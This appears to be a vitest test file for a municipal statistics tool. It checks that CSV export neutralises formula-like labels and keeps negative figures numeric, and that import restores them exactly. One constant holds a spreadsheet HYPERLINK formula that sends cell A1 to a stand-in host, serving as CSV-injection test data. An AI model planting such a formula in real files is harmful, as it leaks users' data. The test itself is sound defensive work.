/**
 * The exchange CSV and the spreadsheet: a source label that a spreadsheet would run as a formula is
 * written neutralised (prefixed with `'`, as every CSV the product writes) in both variants, numbers
 * — negative ones too — are written as numbers, and the import takes the prefix off again, so the
 * label and every figure come back exactly.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadCatalogue } from '../../src/catalogue/index.ts';
import { exportFigures, importComparison } from '../../src/services/exchange/index.ts';
import { importDelivery } from '../../src/services/import/import-delivery.ts';
import { loadResults } from '../../src/services/results.ts';
import { openStore, type Store } from '../../src/store/index.ts';

const catalogue = loadCatalogue();
const MALICIOUS = '=HYPERLINK("http://x.example/?leak="&A1;"klik")';

/** København's target group 500/1200 against 1800/3000: the gap is 5/12 − 3/5 = −11/60. */
const DELIVERY = `kommune;indikator;periode;gruppe;taeller;naevner
101;selvforsoergelse;2025;target;500;1200
101;selvforsoergelse;2025;comparison;1800;3000
`;

const dir = mkdtempSync(path.join(tmpdir(), 'indikator-exchange-csv-'));
let from: Store;

beforeAll(async () => {
  from = await openStore({ dataDir: path.join(dir, 'from'), ownMunicipality: '101' });
  const file = path.join(dir, 'delivery.csv');
  writeFileSync(file, DELIVERY);
  await importDelivery({ file, actor: 'anna', municipality: '101' }, catalogue, from);
  const [delivery] = await from.latestDeliveries({});
  if (delivery === undefined) throw new Error('no delivery');
  await from.setDeliveryStatus(delivery.id, 'published', '', 'koordinator');
});

afterAll(async () => {
  await from?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function exported(variant: 'machine' | 'excel'): Promise<string> {
  const out = path.join(dir, `figures-${variant}.csv`);
  await exportFigures(from, catalogue, {
    format: 'csv',
    csvVariant: variant,
    out,
    threshold: 5,
    municipality: '101',
    ownCode: '101',
    ownName: 'København',
    source: MALICIOUS,
    now: () => new Date('2026-03-01T12:00:00.000Z'),
  });
  return out;
}

/** The target group's gap, 5/12 − 3/5 = −11/60, as the doubles give it (−0.18333…). */
const GAP = 500 / 1200 - 1800 / 3000;

describe.each([
  { variant: 'machine', separator: ',', gap: String(GAP) },
  { variant: 'excel', separator: ';', gap: String(GAP).replace('.', ',') },
] as const)('the exchange CSV ($variant)', ({ variant, separator, gap }) => {
  it('writes a formula-like source label with a leading quote, and a negative gap as a plain number', async () => {
    const text = readFileSync(await exported(variant), 'utf8');
    const rows = text.split(/\r?\n/).filter((l) => l !== '');
    expect(rows).toHaveLength(3);
    for (const row of rows.slice(1)) {
      // The label holds quotes and, in the Excel variant, the separator: quoted, inner quotes doubled.
      expect(row).toContain(`${separator}"'=HYPERLINK(""http://x.example/?leak=""&A1;""klik"")"${separator}`);
      expect(row).not.toMatch(new RegExp(`(^|${separator})"?=HYPERLINK`));
    }
    // The target row's gap, unquoted and unprefixed, starting with its minus: Excel reads it as a number.
    expect(gap.startsWith('-0')).toBe(true);
    const target = rows.find((r) => r.includes(`${separator}target${separator}`)) ?? '';
    expect(target.split(separator)).toContain(gap);
  });

  it('imports it back with the label and the negative gap exactly as they were', async () => {
    const into = await openStore({ dataDir: path.join(dir, `into-${variant}`), ownMunicipality: '999' });
    try {
      const saved = await importComparison({ file: await exported(variant), actor: 'koordinator', ownMunicipality: '999' }, catalogue, into);
      expect(saved.set.source).toBe(MALICIOUS);
      const figures = await into.listComparisonFigures('selvforsoergelse');
      const target = figures.find((f) => f.group === 'target');
      expect(target?.gap).toBe(GAP);
      expect(target?.gap).toBeCloseTo(-11 / 60, 15);
      const published = (await loadResults(from, catalogue, { threshold: 5, statuses: ['published'] })).rows;
      const exact = (rows: readonly { group: string; value: number | null; ciLow: number | null; ciHigh: number | null; gap: number | null }[]) =>
        rows.map((r) => [r.group, r.value, r.ciLow, r.ciHigh, r.gap]).sort();
      expect(exact(figures)).toEqual(exact(published));
      expect(published.some((r) => (r.ciLow ?? 0) < 0 || (r.gap ?? 0) < 0)).toBe(true);
    } finally {
      await into.close();
    }
  });
});
